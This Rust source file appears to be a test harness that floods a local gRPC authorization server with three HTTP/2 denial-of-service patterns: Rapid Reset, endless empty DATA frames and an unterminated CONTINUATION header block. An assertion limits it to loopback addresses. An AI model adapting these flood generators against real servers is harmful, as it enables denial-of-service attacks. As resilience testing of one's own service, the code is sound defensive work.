//! Floods of HTTP/2 frames that cost their sender little: resets, empty DATA, CONTINUATION without end.
//!
//! Invariant: a flood goes to a loopback address, has one connection at a time, and ends when it is told to.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use crate::raw_h2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, RST_STREAM, SETTINGS, encode, frame,
};

/// Frames that are written at once.
const FRAMES_AT_ONCE: u32 = 64;

/// How long a write may take before the peer counts as one that does not read any more.
const WRITE_TIMEOUT: Duration = Duration::from_millis(500);

const CANCEL: u32 = 8;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Calls that are opened and reset at once.
    RapidReset,
    /// One call, and empty DATA frames for ever.
    EmptyData,
    /// One head that never ends.
    Continuation,
}

/// What a flood came to.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Sent {
    pub frames: u64,
    /// How often the peer had enough, or did not read any more.
    pub connections: u64,
}

impl Flood {
    pub const ALL: [Self; 3] = [Self::RapidReset, Self::EmptyData, Self::Continuation];

    /// Sends until it is `over`. Whoever hangs up is connected to again.
    pub fn run(self, addr: SocketAddr, over: &AtomicBool) -> Sent {
        assert!(addr.ip().is_loopback(), "a flood stays on this machine");
        let mut sent = Sent::default();
        while !over.load(Ordering::SeqCst) {
            sent.connections += 1;
            // A peer that hangs up is what a flood comes to.
            let _ended = self.connection(addr, over, &mut sent);
        }
        sent
    }

    fn connection(self, addr: SocketAddr, over: &AtomicBool, sent: &mut Sent) -> std::io::Result<()> {
        let mut stream = TcpStream::connect_timeout(&addr, WRITE_TIMEOUT)?;
        stream.set_nodelay(true)?;
        stream.set_write_timeout(Some(WRITE_TIMEOUT))?;
        let mut start = PREFACE.to_vec();
        start.extend(frame(SETTINGS, 0, 0, &[]));
        match self {
            Flood::RapidReset => {}
            Flood::EmptyData => start.extend(frame(HEADERS, END_HEADERS, 1, &head())),
            Flood::Continuation => start.extend(frame(HEADERS, 0, 1, &head())),
        }
        stream.write_all(&start)?;
        for round in 0.. {
            if over.load(Ordering::SeqCst) {
                return Ok(());
            }
            stream.write_all(&self.frames(round))?;
            sent.frames += u64::from(FRAMES_AT_ONCE);
            drain(&mut stream)?;
        }
        Ok(())
    }

    fn frames(self, round: u32) -> Vec<u8> {
        let first = round.wrapping_mul(FRAMES_AT_ONCE);
        let mut frames = Vec::new();
        for number in first..first.wrapping_add(FRAMES_AT_ONCE) {
            match self {
                Flood::RapidReset => {
                    // Streams of clients have odd numbers; after 2^31 the peer refuses, and the next connection begins anew.
                    let stream = number.wrapping_mul(2).wrapping_add(1);
                    frames.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head()));
                    frames.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
                }
                Flood::EmptyData => frames.extend(frame(DATA, 0, 1, &[])),
                Flood::Continuation => {
                    let mut encoder = loona_hpack::Encoder::new();
                    let name = format!("x-{number}").into_bytes();
                    let block = encode(&mut encoder, &[(name, vec![b'x'; 64])]);
                    frames.extend(frame(CONTINUATION, 0, 1, &block));
                }
            }
        }
        frames
    }
}

/// The head of a Check.
fn head() -> Vec<u8> {
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "palisade"),
        (":path", "/envoy.service.auth.v3.Authorization/Check"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    let fields = fields.map(|(name, value)| (name.as_bytes().to_vec(), value.as_bytes().to_vec()));
    encode(&mut loona_hpack::Encoder::new(), &fields)
}

/// Reads what the peer sent so far, so that it can go on sending.
fn drain(stream: &mut TcpStream) -> std::io::Result<()> {
    stream.set_nonblocking(true)?;
    let mut buffer = [0; 16 * 1024];
    let read = loop {
        match stream.read(&mut buffer) {
            Ok(0) => break Err(ErrorKind::ConnectionAborted.into()),
            Ok(_) => {}
            Err(error) if error.kind() == ErrorKind::WouldBlock => break Ok(()),
            Err(error) => break Err(error),
        }
    };
    stream.set_nonblocking(false)?;
    read
}
